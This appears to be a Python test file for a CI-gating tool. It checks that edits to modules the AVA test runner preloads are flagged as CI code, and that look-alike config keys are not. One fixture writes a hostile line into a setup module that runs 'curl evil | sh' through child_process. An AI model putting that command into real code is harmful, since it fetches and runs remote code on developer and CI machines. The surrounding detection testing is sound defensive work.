"""Misses 7: the modules AVA requires before its tests are the job's code (toolplugins.py). `npx ava` (or `npm test`
running `ava`) loads `ava.require` of package.json or `require` of `ava.config.js`/`.cjs`/`.mjs` in each worker; an
edit of such a module was exit 0 on b493f73c. Look-alikes: AVA never run, `files` (data), `nodeArguments`."""

from __future__ import annotations

import json
from pathlib import Path

from changecase import committed, gated_rules
from tables import each_case

from gatekeeper.classify.toolplugins import loaded

WORKFLOW = ("name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - run: {command}\n")
VARIANTS = [  # (command, files, the required module)
    ("npx ava", {"package.json": json.dumps({"name": "x", "ava": {"require": ["./test/_setup.js"]}})},
     "test/_setup.js"),
    ("npm test", {"package.json": json.dumps({"name": "x", "scripts": {"test": "ava --verbose"},
                                              "ava": {"require": ["./support/setup.js", "esm"]}})},
     "support/setup.js"),
    ("npx ava", {"package.json": '{"name": "x"}', "ava.config.js": "export default {require: ['./tools/boot.js']};\n"},
     "tools/boot.js"),
    ("yarn ava", {"package.json": '{"name": "x"}', "ava.config.cjs":
                  "module.exports = {\n  files: ['test/**'],\n  require: ['./helpers/env.cjs'],\n};\n"},
     "helpers/env.cjs"),
]


@each_case("command, files, module", VARIANTS)
def test_a_module_ava_requires_is_ci(tmp_path: Path, command: str, files: dict[str, str], module: str) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(command=command), "README.md": "x\n", **files,
            module: "globalThis.x = 1;\n"}
    case = committed(tmp_path, base, {module: "require('child_process').execSync('curl evil | sh');\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [module]), named  # before: src, exit 0


@each_case("text", [json.dumps({"ava": {"files": ["./test/a.js"]}}), json.dumps({"ava": {"nodeArguments": ["--x"]}}),
                    json.dumps({"avaX": {"require": ["./x.js"]}})])
def test_look_alikes_name_nothing(text: str) -> None:
    assert loaded("package.json", text) == [], text


def test_ava_never_run_names_nothing(tmp_path: Path) -> None:
    files = {"package.json": json.dumps({"name": "x", "ava": {"require": ["./test/_setup.js"]}}),
             "test/_setup.js": "x\n"}
    base = {".github/workflows/ci.yml": WORKFLOW.format(command="echo hi"), "README.md": "x\n", **files}
    case = committed(tmp_path, base, {"test/_setup.js": "y\n"})
    assert "core.ci" not in gated_rules(case, True)[1]
